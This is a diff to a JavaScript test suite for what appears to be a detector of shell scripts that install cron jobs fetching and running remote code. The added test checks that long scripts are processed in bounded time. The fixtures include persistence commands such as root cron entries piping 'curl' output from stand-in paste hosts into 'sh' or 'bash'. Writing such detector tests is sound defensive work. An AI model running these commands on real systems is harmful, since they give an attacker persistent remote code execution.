@@ -88,6 +88,19 @@ describe('a cron job the script writes', () => {
     expect(piped("#!/bin/bash\necho '*/10 * * * * root curl -fsSL https://paste.example.net/raw/sys | sh' >> /etc/crontab")).toEqual(['https://paste.example.net/raw/sys']);
     expect(piped("#!/bin/bash\nprintf '%s\\n' '30 2 * * 1 curl https://paste.example.net/raw/f | bash' > /tmp/job\ncrontab /tmp/job")).toEqual(['https://paste.example.net/raw/f']);
   });
+  it('reads 64 KiB scripts of long echoes into crontab, cron files and archive extractions in bounded time', () => {
+    const words = Array.from({ length: 12000 }, (_, i) => `w${i}`).join(' ');
+    const scripts = [
+      `#!/bin/bash\n(crontab -l; echo ${words}) | crontab -`,
+      `#!/bin/bash\n${Array.from({ length: 3000 }, (_, i) => `echo "0 * * * * bash /tmp/g${i}" >> /tmp/cron; crontab /tmp/cron`).join('\n')}`,
+      `#!/bin/bash\ncurl -o a.tgz https://tools.example.net/a.tgz\n${Array.from({ length: 2000 }, (_, i) => `tar xzf a.tgz -C /opt/d${i}; bash /opt/x${i}/run.sh`).join('\n')}`,
+    ].map((s) => s.slice(0, 64 * 1024));
+    for (const script of scripts) {
+      const start = performance.now();
+      expect(piped(script)).toBeUndefined();
+      expect(performance.now() - start).toBeLessThan(3000);
+    }
+  });
   it("a cron line running a local script, an echo that is no cron line, and AWS's autostop sample raise nothing", () => {
     expect(piped('#!/bin/bash\n(crontab -l 2>/dev/null; echo "*/5 * * * * /usr/bin/python3 /opt/team/autostop.py --time 3600") | crontab -')).toBeUndefined();
     expect(piped('#!/bin/bash\necho "curl -s https://paste.example.net/raw/x | bash" > /tmp/notes.txt')).toBeUndefined();
